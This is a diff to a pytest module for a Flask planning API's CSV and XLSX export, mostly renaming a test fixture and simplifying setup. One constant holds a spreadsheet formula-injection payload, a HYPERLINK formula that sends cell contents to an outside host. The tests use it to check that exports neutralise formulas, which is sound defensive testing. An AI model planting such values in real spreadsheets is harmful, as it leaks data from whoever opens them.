@@ -17,7 +17,7 @@ from sqlalchemy import select, update
 from api.cli import main
 from api.db import session_scope
 from api.models import Building, PlanAssignment, PlanGrid
-from tests.api.plans_helpers import district_app, login, wait_job
+from tests.api.plans_helpers import district_app, login, partitioned_plan
 
 N_BUILDINGS = 600
 HOSTILE = '=HYPERLINK("http://x"&A1,"点击")'
@@ -31,17 +31,13 @@ def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
 
 
 @pytest.fixture(scope="module")
-def viewer(app: Flask) -> FlaskClient:
+def planner(app: Flask) -> FlaskClient:
     return login(app, "planner")
 
 
 @pytest.fixture(scope="module")
-def plan(app: Flask, viewer: FlaskClient) -> int:
-    r = viewer.post("/api/plans/partition", json={"name": "导出方案", "seed": 7})
-    assert r.status_code == 202
-    job = wait_job(viewer, r.get_json()["job_id"])
-    assert job["state"] == "done", job
-    plan_id = job["plan_id"]
+def plan(app: Flask, planner: FlaskClient) -> int:
+    plan_id = partitioned_plan(planner, "导出方案")
     with app.app_context(), session_scope() as s:  # names as a hostile file or edit would give them
         grids = s.scalars(select(PlanGrid.grid_id).where(PlanGrid.plan_version_id == plan_id)
                           .order_by(PlanGrid.grid_id)).all()
@@ -60,8 +56,8 @@ def _get(client: FlaskClient, plan: int, **query: str) -> bytes:
     return r.data
 
 
-def test_csv_has_chinese_headers_values_and_sensible_precision(viewer: FlaskClient, plan: int) -> None:
-    data = _get(viewer, plan, format="csv")
+def test_csv_has_chinese_headers_values_and_sensible_precision(planner: FlaskClient, plan: int) -> None:
+    data = _get(planner, plan, format="csv")
     assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads the Chinese
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert list(rows[0])[:6] == ["网格ID", "网格编码", "名称", "社区ID", "户数", "楼栋数"]
@@ -69,20 +65,20 @@ def test_csv_has_chinese_headers_values_and_sensible_precision(viewer: FlaskClie
     assert {r["锁定"] for r in rows} <= {"是", "否"}
     assert all(r["面积(平方米)"].isdigit() for r in rows)
     assert all(len(r["紧凑度(Polsby-Popper)"].split(".")[-1]) <= 3 for r in rows)
-    canonical = list(csv.DictReader(io.StringIO(_get(viewer, plan, format="csv", headers="canonical")
+    canonical = list(csv.DictReader(io.StringIO(_get(planner, plan, format="csv", headers="canonical")
                                                 .decode("utf-8-sig"), newline="")))
     assert list(canonical[0])[:2] == ["grid_id", "code"] and {r["status"] for r in canonical} <= {
         "in", "under", "over", "exclusive"}
-    r = viewer.get(f"/api/plans/{plan}/export?format=csv&headers=klingon")
+    r = planner.get(f"/api/plans/{plan}/export?format=csv&headers=klingon")
     assert r.status_code == 400 and "headers" in r.get_json()["error"]["fix"]
 
 
-def test_csv_and_xlsx_neutralise_formulas(viewer: FlaskClient, plan: int) -> None:
-    rows = list(csv.DictReader(io.StringIO(_get(viewer, plan, format="csv").decode("utf-8-sig"), newline="")))
+def test_csv_and_xlsx_neutralise_formulas(planner: FlaskClient, plan: int) -> None:
+    rows = list(csv.DictReader(io.StringIO(_get(planner, plan, format="csv").decode("utf-8-sig"), newline="")))
     names = {r["名称"] for r in rows}
     assert "'" + HOSTILE in names and HOSTILE not in names
     assert {"'" + v for v in OTHERS} <= names
-    wb = load_workbook(io.BytesIO(_get(viewer, plan, format="xlsx")))
+    wb = load_workbook(io.BytesIO(_get(planner, plan, format="xlsx")))
     cells = [c for ws in wb for row in ws.iter_rows() for c in row]
     assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
     values = {c.value for c in cells}
